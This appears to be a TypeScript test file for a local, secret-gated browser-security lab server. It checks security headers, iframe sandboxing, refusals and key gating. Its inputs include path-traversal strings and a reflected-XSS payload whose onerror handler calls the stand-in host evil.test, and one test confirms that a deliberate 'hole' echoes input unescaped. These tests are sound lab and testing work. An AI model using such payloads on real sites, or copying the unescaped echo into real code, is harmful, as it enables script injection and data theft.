import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { holePath, pagePath } from '../../model/lab/topology/guarded-pages';
import { pageIds, pageSpec } from '../../model/lab/topology/pages';
import { startLab } from '../../servers/lab';
import { ask } from './ask';
import { audioBytes } from './audio-bytes';
import { expect, test } from './lab-fixture';
import { expectRefusal } from './refusal';

const site = { server: 'player' } as const;

for (const id of pageIds) {
  test(`the page ${id} carries its own policies, and no others`, async ({ lab }) => {
    const page = pagePath(id, lab.secret);
    for (const path of [page, page.replace(id, `${id}/frame`), holePath(id, lab.secret)]) {
      const answer = await ask(lab, path, { server: pageSpec(id).server, scheme: pageSpec(id).scheme });
      expect.soft(answer.status, path).toBe(200);
      expect.soft(answer.header('Content-Type')).toBe('text/html; charset=utf-8');
      expect.soft(answer.header('Cache-Control')).toBe('no-store');
      expect.soft(answer.header('Content-Security-Policy')).toBe(pageSpec(id).csp);
      expect.soft(answer.header('Cross-Origin-Embedder-Policy')).toBe(pageSpec(id).coep);
      const isAround = path === page && pageSpec(id).opened === 'cross-origin-frame';
      const declared = isAround ? undefined : pageSpec(id).permissionsPolicy;
      expect.soft(answer.header('Permissions-Policy'), path).toBe(declared);
      expect.soft(answer.header('X-Powered-By')).toBeUndefined();
    }
  });
}

test('a page has the probe in it; a sandboxed one has it in its frame', async ({ lab }) => {
  const html = async (path: string) => (await ask(lab, path, site)).body.toString();
  expect(await html('/lab/http')).toContain('<script src="/lab/probe.js">');
  const parent = await html('/lab/sandboxed');
  expect(parent).toMatch(/<iframe [^>]*sandbox="allow-scripts"[^>]* src="\/lab\/sandboxed\/frame">/);
  expect(parent).not.toContain('<script');
  expect(await html('/lab/sandboxed/frame')).toContain('<script src="/lab/probe.js">');
});

test('a page in a frame of another origin is handed on what the frame allows, and nothing else', async ({
  lab,
}) => {
  const frameOf = async (id: string) =>
    /<iframe [^>]*>/.exec((await ask(lab, `/lab/${id}`, site)).body.toString())?.[0];
  const src = (id: string) => `src="http://player.test:${lab.ports.player.http}/lab/${id}/frame"`;
  expect(await frameOf('framed-allowed')).toContain(`allow="autoplay" ${src('framed-allowed')}`);
  const alone = await frameOf('framed-clicked');
  expect(alone).toContain(src('framed-clicked'));
  expect(alone).not.toMatch(/allow|sandbox/);
});

test('an unknown page is a 404 that lists the known ones', async ({ lab }) => {
  for (const path of ['/lab/nothing', '/lab/nothing/frame', '/lab/constructor', '/lab/__proto__/hole']) {
    const error = expectRefusal(await ask(lab, path, site), 404, 'page');
    expect(error.message).toContain('http, https');
  }
});

const refused = [
  ['a broken percent escape', '/lab/%zz', 400, 'url'],
  ['a path up', '/lab/%2e%2e%2f%2e%2e%2fpackage.json', 404, 'page'],
  ['a path up in the player', '/%2e%2e/%2e%2e/package.json', 404, 'url'],
  ['an unknown path', '/lab/http/no/such', 404, 'url'],
  ['another song', '/songs/other.mp3', 404, 'url'],
  ['a URL that is too long', `/lab/http?${'x'.repeat(8_192)}`, 414, 'url'],
] as const;
for (const [title, path, status, at] of refused) {
  test(`${title} is a ${status} in JSON`, async ({ lab }) => {
    expectRefusal(await ask(lab, path, site), status, at);
  });
}

test('a site refuses a malformed Host before it looks at the path', async ({ lab }) => {
  for (const path of ['/lab/http', '/lab.json', '/songs/local.mp3'])
    expectRefusal(await ask(lab, path, { ...site, headers: [['Host', '<x>']] }), 400, 'Host');
});

test('the hole repeats its input unescaped: it is there to be misused', async ({ lab }) => {
  const name = '<img src="x" onerror="load(\'http://evil.test/?a=b&t=c\')">?+1';
  for (const spelling of [
    encodeURIComponent(name),
    name.replaceAll('+', '%2B').replaceAll('&', '%26').replaceAll(' ', '+'),
  ]) {
    const answer = await ask(lab, `${holePath('http', lab.secret)}&x=y&name=${spelling}`, site);
    expect.soft(answer.body.toString()).toContain(`<p>Hello, ${name}!</p>`);
  }
});

for (const path of [
  '/lab/http/hole',
  '/lab/evil',
  '/lab/evil/frame',
  '/lab/evil-sandboxed',
  '/lab/evil-sandboxed/frame',
]) {
  test(`${path} is there for who has the secret of the lab`, async ({ lab }) => {
    const other = lab.secret.replace(/^./, (first) => (first === 'x' ? 'y' : 'x'));
    for (const key of ['', other, lab.secret.slice(1), `${lab.secret}x`]) {
      for (const server of ['player', 'evil'] as const) {
        const answer = await ask(lab, `${path}?name=%3Cscript%3E&key=${key}`, { server });
        expect.soft(expectRefusal(answer, 403, 'key').value).toBe(key);
        expect.soft(answer.body.toString()).not.toContain('<script');
      }
    }
    expect(expectRefusal(await ask(lab, path, site), 403, 'key').value).toBe('');
    expect((await ask(lab, `${path}?key=${lab.secret}`, site)).status).toBe(200);
  });
}

test('the secret is the same in every lab with the same key, and another with another', async ({ lab }) => {
  const second = await startLab({ portBase: 0 });
  const folder = mkdtempSync(join(tmpdir(), 'earshot-tls-'));
  const third = await startLab({ portBase: 0, tlsFolder: folder });
  try {
    expect(lab.secret).toMatch(/^[\w-]{32}$/);
    expect(second.secret).toBe(lab.secret);
    expect(third.secret).not.toBe(lab.secret);
  } finally {
    await Promise.all([second.close(), third.close()]);
    rmSync(folder, { recursive: true });
  }
});

test('the local song is whole, or in part', async ({ lab }) => {
  const song = audioBytes('player', 'song.mp3');
  const answer = await ask(lab, '/songs/local.mp3', site);
  expect(answer.body.equals(song)).toBe(true);
  expect(answer.header('Access-Control-Allow-Origin')).toBeUndefined();
  const part = await ask(lab, '/songs/local.mp3', { ...site, headers: [['Range', 'bytes=-9']] });
  expect(part.status).toBe(206);
  expect(part.body.equals(song.subarray(-9))).toBe(true);
});

test('a bad range of the local song is refused in JSON', async ({ lab }) => {
  const bad = (range: string) => ask(lab, '/songs/local.mp3', { ...site, headers: [['Range', range]] });
  expectRefusal(await bad('bytes=x'), 400, 'Range');
  expectRefusal(await bad('bytes=999999-'), 416, 'Range');
});

test('a site tells the ports and the key of the lab', async ({ lab }) => {
  const answer = await ask(lab, '/lab.json', site);
  expect(answer.json()).toEqual({ ports: lab.ports, spki: lab.spki, secret: lab.secret });
  expect(answer.header('Cache-Control')).toBe('no-store');
  expect(answer.header('Access-Control-Allow-Origin')).toBeUndefined();
});

test('a site is a CDN too', async ({ lab }) => {
  const answer = await ask(lab, '/p/wildcard/tone.mp3', site);
  expect(answer.header('Access-Control-Allow-Origin')).toBe('*');
  expect(answer.body.equals(audioBytes('player', 'tone.mp3'))).toBe(true);
});
